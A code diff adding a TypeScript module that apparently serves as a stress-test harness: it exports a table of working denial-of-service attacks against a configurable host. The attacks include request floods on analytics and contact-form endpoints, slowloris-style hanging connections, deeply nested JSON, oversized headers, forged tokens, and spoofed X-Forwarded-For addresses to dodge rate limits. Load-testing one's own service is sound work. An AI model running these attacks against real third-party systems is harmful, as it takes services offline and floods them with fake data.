@@ -1,0 +1,141 @@
+import { randomBytes, randomUUID } from 'node:crypto'
+import { connect, type Socket } from 'node:net'
+import { setTimeout } from 'node:timers/promises'
+
+export type Target = { host: string; port: number; key: string; signal: AbortSignal }
+/** Goes on until the signal. */
+type Attack = (target: Target) => Promise<unknown>
+
+const events = '/rest/v1/analytics_events'
+const contact = '/rest/v1/rpc/create_lead_from_contact_form'
+
+type Request = { method?: string; path: string; headers?: Record<string, string>; body?: string | Buffer }
+
+function written({ key }: Target, { method, path, headers = {}, body = '' }: Request): Buffer {
+  const length = body === '' ? {} : { 'Content-Length': String(Buffer.byteLength(body)) }
+  const all = { Host: 'localhost', apikey: key, 'X-Forwarded-For': '192.0.2.66', ...length, ...headers }
+  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`)
+  const verb = method ?? (body === '' ? 'GET' : 'POST')
+  return Buffer.concat([Buffer.from(`${verb} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`), Buffer.from(body)])
+}
+
+/** Holds that many sockets, each in the hands of `use`; one that is closed is opened again. */
+async function hold(target: Target, count: number, use: (socket: Socket) => void, pause = 50): Promise<unknown> {
+  return Promise.all(
+    Array.from({ length: count }, async () => {
+      while (!target.signal.aborted) {
+        const socket = connect(target.port, target.host).on('error', () => undefined)
+        const stop = () => socket.destroy()
+        target.signal.addEventListener('abort', stop, { once: true })
+        const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()))
+        use(socket)
+        await closed
+        target.signal.removeEventListener('abort', stop)
+        await setTimeout(pause)
+      }
+    }),
+  )
+}
+
+/** Asks over and over on that many connections, the next as soon as there is an answer. */
+const flood = (count: number, make: (n: number) => Request): Attack => {
+  let n = 0
+  return (target) =>
+    hold(target, count, (socket) => {
+      const send = () => socket.write(written(target, make(n++)))
+      socket.once('connect', send).on('data', send)
+    })
+}
+
+const hang = (count: number, start: (target: Target) => Buffer, drop: string, everyMs: number): Attack => {
+  return (target) =>
+    hold(target, count, (socket) => {
+      socket.once('connect', () => socket.write(start(target)))
+      const timer = setInterval(() => socket.write(drop), everyMs)
+      socket.resume().once('close', () => clearInterval(timer))
+    })
+}
+
+const event = (more: object = {}) => ({
+  id: randomUUID(),
+  event_type: 'page_view',
+  site_id: 'citence',
+  page_path: `/invented-${randomUUID()}`,
+  session_id: randomUUID(),
+  properties: { filler: 'x'.repeat(9000) },
+  ...more,
+})
+const anywhere = () => `2001:db8:${randomBytes(1).toString('hex')}:${randomBytes(2).toString('hex')}::1`
+const batches = Array.from({ length: 4 }, () => JSON.stringify(Array.from({ length: 200 }, () => event())))
+const smallRows = Array.from({ length: 500 }, () => event({ properties: {} }))
+const tinyRows = JSON.stringify(Array.from({ length: 49_000 }, () => ({ event_type: 'x', site_id: 'citence' })))
+const lead = () => ({ p_name: 'A', p_email: `${randomUUID()}@attack.example`, p_message: 'x', p_language: 'en' })
+const chunked = { 'Transfer-Encoding': 'chunked' }
+
+export const attacks: Readonly<Record<string, Attack>> = {
+  'paths of slashes': flood(20, (n) => ({ path: `${'/en'.repeat(60)}/a${'/'.repeat(n % 2 ? 6000 : 15_000)}b` })),
+  'rows beyond the cap': flood(8, () => ({ path: events, body: tinyRows })),
+  'large batches at full speed': flood(10, (n) => ({ path: events, body: batches[n % 4] ?? '' })),
+  'small batches from many addresses': flood(10, () => ({
+    path: events,
+    headers: { 'X-Forwarded-For': anywhere() },
+    body: JSON.stringify(smallRows.map((row) => ({ ...row, id: randomUUID() }))),
+  })),
+  'deep JSON': flood(10, () => ({ path: events, body: `[${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}]` })),
+  'many columns': flood(10, (n) => ({
+    path: `${events}?columns=event_type,site_id${[...n.toString(2)].map((bit, i) => (bit === '1' ? `,utm_${['source', 'medium', 'campaign', 'content', 'term'][i % 5]}` : '')).join('')}`,
+    body: '[{"event_type":"x","site_id":"citence"}]',
+  })),
+  'leads from many addresses': flood(10, () => ({
+    path: contact,
+    headers: { 'X-Forwarded-For': anywhere(), 'Idempotency-Key': randomUUID() },
+    body: JSON.stringify(lead()),
+  })),
+  'headers of commas': flood(20, () => ({
+    path: '/faq',
+    headers: { Accept: ','.repeat(5000), 'If-None-Match': ','.repeat(5000), 'Accept-Encoding': 'q;,'.repeat(1500) },
+  })),
+  'forged tokens': flood(20, () => ({
+    path: '/auth/v1/user',
+    headers: { Authorization: `Bearer ${'e30'.repeat(2000)}.e30.e30` },
+  })),
+  'HEAD, OPTIONS and parts': flood(40, (n) => ({
+    method: ['HEAD', 'OPTIONS', 'GET'][n % 3] ?? 'GET',
+    path: '/videos/film.webm',
+    headers: { Range: `bytes=${'0'.repeat(2000)}1-` },
+  })),
+  health: flood(40, () => ({ path: '/health' })),
+  'a thousand requests at once': (target) =>
+    hold(target, 5, (socket) => {
+      const one = written(target, { path: '/complete-geo-guide' })
+      socket.once('connect', () => socket.write(Buffer.concat(Array.from({ length: 1000 }, () => one))))
+      socket.pause()
+    }),
+  'slow headers': hang(400, () => Buffer.from('GET / HTTP/1.1\r\nHost: localhost\r\n'), 'X-A: b\r\n', 500),
+  'idle sockets': hang(1500, () => Buffer.alloc(0), '', 60_000),
+  'hanging uploads': hang(
+    600,
+    (target) => {
+      const headers = { 'Content-Length': '1900000' }
+      return written(target, { method: 'POST', path: events, headers, body: `[${' '.repeat(200_000)}` })
+    },
+    ' ',
+    500,
+  ),
+  'hanging leads': hang(
+    600,
+    (target) => written(target, { method: 'POST', path: contact, headers: { 'Content-Length': '60000' }, body: '{' }),
+    ' ',
+    500,
+  ),
+  'bodies in parts of one byte': (target) =>
+    hold(target, 10, (socket) => {
+      const head = written(target, { method: 'POST', path: events, headers: chunked })
+      const parts = Buffer.from('1\r\n \r\n'.repeat(10_000))
+      const send = () => {
+        while (!socket.destroyed && socket.write(parts));
+      }
+      socket.once('connect', () => socket.write(head, send)).on('drain', send)
+      socket.resume()
+    }),
+}
